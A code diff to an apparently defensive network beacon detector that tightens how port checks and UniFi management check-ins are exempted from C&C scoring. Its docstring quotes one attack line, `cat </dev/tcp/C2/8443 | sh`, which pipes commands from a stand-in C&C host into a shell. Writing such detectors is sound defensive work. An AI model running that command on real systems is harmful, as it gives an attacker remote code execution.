@@ -43,8 +43,8 @@ connection (after a keep-alive gap longer than the flow table's idle timeout, or
 closed the flow but not the connection), and a SYN-ACK sent to a host that never asked; any of them
 could be made at will by somebody who wants a server everyone uses (a resolver, a push service)
 blocked. Nor does a port check: a connection in which the client said nothing
-(`tcpstate.client_silent`) to a server port whose first bytes were a speak-first service's banner
-(SSH-, a 220 greeting, RFB, telnet: the app decoder's banner events, `speaks_first`). Uptime Kuma's
+(`tcpstate.client_silent`) and whose first bytes were its server's speak-first banner (SSH-, a 220
+greeting, RFB, telnet: the app decoder's banner event of that very connection, `speaks_first`). Uptime Kuma's
 "TCP port" check of the owner's VPS's ssh every 60 s connects, takes the banner and closes, and
 blocked the VPS. A silent client elsewhere still counts: a cron job piping a C&C's push into a shell
 (`cat </dev/tcp/C2/8443 | sh`) never writes a byte (a red team: that one went unseen when every
@@ -72,9 +72,9 @@ Legitimate periodic traffic is told apart by who and where, not by timing (it is
   line. The price: a C&C that picks one of these ports needs that second finding too.
 * a device-management agent checking in with its controller (MANAGEMENT_AGENTS, told by the
   HTTP request and port: UniFi's POST /inform to 8080 every 10 s, to a controller on a VPS by
-  address), when at least half the tuple's connections were such check-ins: counts half, as a
-  keepalive port. The price: a C&C that sends that request line and agent to 8080 in every
-  connection needs a second finding.
+  address), when at least half the tuple's connections in its history were such check-ins: counts
+  half, as a keepalive port. The price: a C&C that sends that request line and agent to 8080 in at
+  least every other connection needs a second finding.
 * an outside client calling a local server (inbound): ignored. A password guesser or a monitoring
   probe is just as regular, and the C&C of our hosts is outside; bruteforce/portscan judge those.
 Limits: the detector sees connections, so a UDP beacon that keeps one source port alive (one flow
@@ -86,7 +86,7 @@ from __future__ import annotations
 
 import bisect
 import math
-from collections import OrderedDict
+from collections import OrderedDict, deque
 from collections.abc import Callable, Collection, Iterator, Sequence
 from itertools import pairwise
 from statistics import median
@@ -121,9 +121,9 @@ KEEPALIVE_WEIGHT = 0.5  # a beacon's confidence on such a port: at most 0.45, be
 # counts as a keepalive port's does: half, a block only with another finding.
 # (method, path, User-Agent prefix, server port, what): POSTs only (on_app turns others away first)
 MANAGEMENT_AGENTS = (("POST", "/inform", "AirControl Agent", 8080, "UniFi inform"),)
-MAX_MANAGED = 4096  # (client, server, port) tuples remembered as management check-ins
+MAX_MANAGED = 1024  # (client, server, port) tuples remembered as management check-ins (`history` times each)
 SPEAKS_FIRST = frozenset({"ssh", "ftp", "smtp", "vnc", "telnet"})  # banner services whose server speaks first
-MAX_SPEAKS_FIRST = 4096  # (server, port) pairs remembered as speaking first
+MAX_SPEAKS_FIRST = 4096  # connections whose server's banner is remembered until their flow closes
 
 
 def _port_proto(v: object) -> bool:
@@ -286,9 +286,12 @@ class Intake:
                           MEMO_SIZE).__getitem__
         # the detector's scoring, for on_flow (Beacon._score): called only for a tuple `add` lets through
         self.score: Callable[[_Tuple, Flow], Sequence[Evidence]] | None = None
-        # (server, port) -> the service whose banner it sent first (ssh, ftp, smtp, vnc, telnet): a
-        # connection there in which the client said nothing is a port check (Beacon.on_app fills it)
-        self.speaks_first: OrderedDict[tuple[str, int], str] = OrderedDict()
+        # (client, client port, server, server port) -> the service whose banner the server sent first
+        # on that connection (ssh, ftp, smtp, vnc, telnet): if its client then said nothing, it was a
+        # port check (Beacon.on_app fills it; the connection's flow takes its entry out). The
+        # connection's own banner, not the server's: one forged segment "from" a C&C's port must
+        # not license its pushes to silent clients (a review)
+        self.speaks_first: OrderedDict[tuple[str, int, str, int], str] = OrderedDict()
 
     def on_flow(self, flow: Flow) -> Sequence[Evidence]:
         """The detector's hook, handed to the engine (one call per flow, no Beacon frame): `add`,
@@ -304,8 +307,9 @@ class Intake:
         if f.proto == "udp" and (f.dport in _IGNORED_UDP_PORTS or f.sport == 123):
             return True
         dst = f.daddr
-        if f.proto == "tcp" and (not opened(f) or (client_silent(f) and (dst, f.dport) in self.speaks_first)):
-            return True
+        if f.proto == "tcp" and (not opened(f) or (client_silent(f) and self.speaks_first
+                                                   and self.speaks_first.pop((f.saddr, f.sport, dst, f.dport), ""))):
+            return True  # not opened; or a port check that took this connection's own banner
         if self.local(dst) and (f.dport in _DNS_PORTS or not self.local(f.saddr)):
             # DNS to a local resolver; or inbound: an Internet client calling a local server
             # regularly is a scanner, a brute forcer or a monitoring service, never our hosts' C&C
@@ -410,8 +414,8 @@ class Beacon(Detector):
         # class's on_flow below says the same in Python
         self.on_flow = self.intake.on_flow  # type: ignore[method-assign]
         self._next_prune = 0.0
-        # (client, server, port) -> (the management protocol its requests spoke, how many of them)
-        self._managed: OrderedDict[tuple[str, str, int], tuple[str, int]] = OrderedDict()
+        # (client, server, port) -> (the management protocol its requests spoke, when: the last `history`)
+        self._managed: OrderedDict[tuple[str, str, int], tuple[str, deque[float]]] = OrderedDict()
 
     def _allowed_name(self, ip: str) -> bool:
         names = self.ctx.dns_names.get(ip)
@@ -430,8 +434,9 @@ class Beacon(Detector):
         data = event.data
         if event.kind == "banner":
             service = data.get("service")
-            if service in SPEAKS_FIRST:  # sent by the server (a client's "SSH-2.0" names its own port)
-                put(self.intake.speaks_first, (event.saddr, event.sport), service, MAX_SPEAKS_FIRST)
+            if service in SPEAKS_FIRST:  # the connection's first payload, sent by its server
+                put(self.intake.speaks_first, (event.daddr, event.dport, event.saddr, event.sport), service,
+                    MAX_SPEAKS_FIRST)
             return NO_EVIDENCE
         if data.get("method") != "POST":  # most requests: the agents' check-ins are POSTs
             return NO_EVIDENCE
@@ -442,7 +447,9 @@ class Beacon(Detector):
                 if path == p and agent.startswith(prefix) and event.dport == port:
                     key = (event.saddr, event.daddr, event.dport)
                     seen = self._managed.get(key)
-                    put(self._managed, key, (what, 1 if seen is None else seen[1] + 1), MAX_MANAGED)
+                    times = seen[1] if seen is not None else deque(maxlen=self.history)
+                    times.append(event.ts)
+                    put(self._managed, key, (what, times), MAX_MANAGED)
         return NO_EVIDENCE
 
     def on_flow(self, flow: Flow) -> Sequence[Evidence]:  # replaced by self.intake.on_flow in __init__
@@ -465,10 +472,13 @@ class Beacon(Detector):
         confidence = self.max_conf * (0.7 * timing + 0.3 * size) * min(1.0, n / self.full_n)
         src, dst, port, proto = flow.saddr, flow.daddr, flow.dport, flow.proto  # the tuple's key
         keepalive = f"{port}/{proto}" in self.keepalive_ports
-        # a management check-in when at least half the tuple's connections were one: one inform POST
-        # is no licence for the TLS beacon that follows it on the same tuple (a red team's decoy)
+        # a management check-in when at least half the tuple's connections in its history were one:
+        # one inform POST is no licence for the TLS beacon that follows it on the same tuple (a red
+        # team's decoy), nor are informs from before the history (a review: 9 h old ones did)
         checkins = self._managed.get((src, dst, port)) if proto == "tcp" and self._managed else None
-        managed = checkins[0] if checkins is not None and 2 * checkins[1] >= t.total else None
+        managed = None
+        if checkins is not None and 2 * sum(1 for ts in checkins[1] if ts >= starts[0]) >= n:
+            managed = checkins[0]
         if keepalive or managed:
             confidence *= KEEPALIVE_WEIGHT
         may_block = True
